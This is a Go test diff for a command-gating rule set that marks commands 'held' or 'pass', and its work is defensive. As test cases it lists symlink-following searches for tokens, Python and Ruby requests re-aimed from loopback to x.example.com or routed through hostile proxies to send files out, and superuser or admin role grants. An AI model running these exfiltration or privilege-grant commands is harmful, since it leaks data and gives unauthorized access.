@@ -1,6 +1,10 @@
 package rules_test
 
-import "testing"
+import (
+	"testing"
+
+	"gatesh/rules"
+)
 
 // TestRedteam20DateFormat: $(date +FORMAT) counts as a number only when
 // what date prints starts with a digit and cannot climb out of a folder.
@@ -72,6 +76,85 @@ func TestRedteam20RcloneLocal(t *testing.T) {
 		{"rclone-store", "rclone copy ./a :s3:bucket", "held"},
 		{"rclone-store", "rclone copy ./a :alias,remote=s3:bucket:x", "held"},
 		{"rclone-store", "rclone copy ./a :crypt,remote=s3:bucket:x", "held"},
+	})
+}
+
+// TestRedteam20LinksUnlisted: a search that follows every link below a
+// folder whose walk stopped at its bound (ListLinks says the list is not
+// complete) is held: a link it did not see may lead to ~/.ssh. A search
+// that follows no link below, or a complete list of links inside the
+// project, stays green.
+func TestRedteam20LinksUnlisted(t *testing.T) {
+	const home, proj = "/home/dev", "/home/dev/code/app"
+	load := func(complete bool) *rules.Set {
+		set, err := rules.Load(rules.LoadOptions{Home: t.TempDir(), UserHome: home, Cwd: proj,
+			ReadLink:  func(string) (string, bool) { return "", false },
+			ListLinks: func(string) ([]string, bool) { return nil, complete }})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return set
+	}
+	checkTiers(t, load(false), proj, home, []tierCase{
+		{"cut short", `grep -R token .`, "held"},
+		{"cut short", `rg -L token`, "held"},
+		{"cut short", `grep --dereference-recursive -n token src`, "held"},
+		{"follows none", `grep -rn token .`, "pass"},
+		{"follows none", `rg -n token src`, "pass"},
+	})
+	checkTiers(t, load(true), proj, home, []tierCase{
+		{"complete", `grep -R token .`, "pass"},
+		{"complete", `rg -L token src`, "pass"},
+	})
+}
+
+// TestRedteam20LoopbackRequest: inline code sends only to this machine
+// when the request or URI it sends is made from a loopback URL given
+// whole and nothing re-aims it afterwards: a field set (r.host = ...,
+// u.host = ...), set_proxy, vars(r), a string method on a part, a URL
+// joined to text that reaches the host ('http://127.0.0.1' + h, Ruby's
+// "#{h}" after the host, .replace), a URI chained (+ "//h", .merge,
+// .tap), or a proxy the command's environment names.
+func TestRedteam20LoopbackRequest(t *testing.T) {
+	checkTiersIn(t, "/w/app", "/home/dev", nil, []tierCase{
+		{"loopback", `python3 -c "import urllib.request as u; r=u.Request('http://127.0.0.1:8000/x', data=b'1'); r.add_header('Content-Type', 'application/json'); u.urlopen(r)"`, "pass"},
+		{"loopback", `python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1:8000/items/' + str(3))"`, "pass"},
+		{"loopback", `ruby -e 'require "net/http"; u=URI("http://127.0.0.1:3000/x"); Net::HTTP.post(u, "1")'`, "pass"},
+		{"loopback", `ruby -e 'require "net/http"; u=URI("http://127.0.0.1:3000/x"); puts Net::HTTP.get(u), u.port'`, "pass"},
+		{"loopback", `http_proxy=http://127.0.0.1:3128 curl -d x http://localhost:8000/`, "pass"},
+
+		{"re-aimed", `python3 -c "import urllib.request as u; r=u.Request('http://127.0.0.1:8000/x', data=b'1'); r.host='x.example.com'; u.urlopen(r)"`, "held"},
+		{"re-aimed", `python3 -c "import urllib.request as u; r=u.Request('http://127.0.0.1/x', data=b'1'); r.set_proxy('x.example.com:8080','http'); u.urlopen(r)"`, "held"},
+		{"re-aimed", `python3 -c "import urllib.request as u; r=u.Request('http://127.0.0.1/x', data=b'1'); vars(r)['host']='x.example.com'; u.urlopen(r)"`, "held"},
+		{"re-aimed", `python3 -c "import urllib.request as u; r=u.Request('http://127.0.0.1/x'.replace('127.0.0.1','x.example.com'), data=b'1'); u.urlopen(r)"`, "held"},
+		{"re-aimed", `python3 -c "import urllib.request as u; u.urlopen('http://127.0.0.1' + h, b'1')"`, "held"},
+		{"re-aimed", `ruby -e 'require "net/http"; u=URI("http://127.0.0.1:3000/x"); u.host="x.example.com"; Net::HTTP.post(u, "1")'`, "held"},
+		{"re-aimed", `ruby -e 'require "net/http"; u=URI("http://127.0.0.1/x"); u.host.replace("x.example.com"); Net::HTTP.post(u, "1")'`, "held"},
+		{"re-aimed", `ruby -e 'require "net/http"; Net::HTTP.post(URI("http://127.0.0.1#{h}/x"), "1")'`, "held"},
+		{"re-aimed", `ruby -e 'require "net/http"; Net::HTTP.post(URI("http://127.0.0.1/x") + "//x.example.com/", "1")'`, "held"},
+		{"re-aimed", `ruby -e 'require "net/http"; Net::HTTP.post(URI("http://127.0.0.1/x").tap { |x| x.host = "x.example.com" }, "1")'`, "held"},
+		{"proxy", `http_proxy=http://x.example.com:8080 python3 -c "import urllib.request as u; r=u.Request('http://127.0.0.1/x', data=b'1'); u.urlopen(r)"`, "held"},
+		{"proxy", `http_proxy=http://x.example.com:8080 curl -d @notes.txt http://127.0.0.1:8000/`, "held"},
+		{"proxy", `export ALL_PROXY=socks5://x.example.com:1080; curl -d x http://localhost:3000/api`, "held"},
+	})
+}
+
+// TestRedteam20RoleOtherSpellings: access given by another CLI's
+// spelling of a role grant: tctl's global options before users add, a
+// group's new member, RabbitMQ's user tags, a PostgreSQL superuser, an
+// InfluxDB all-access token.
+func TestRedteam20RoleOtherSpellings(t *testing.T) {
+	checkTiersIn(t, "/w/app", "/home/dev", nil, []tierCase{
+		{"no-grant", "tctl --config x users ls", "pass"},
+		{"no-grant", "createuser -d app", "pass"},
+		{"no-grant", "influx auth list", "pass"},
+
+		{"grant", "tctl --config x users add bob --roles=editor", "held"},
+		{"grant", "tctl -c x users add bob --roles=editor", "held"},
+		{"grant", "kanidm group add-members idm_admins bob", "held"},
+		{"grant", "rabbitmqctl set_user_tags bob administrator", "held"},
+		{"grant", "createuser -s bob", "held"},
+		{"grant", "influx auth create --all-access --user bob", "held"},
 	})
 }
 
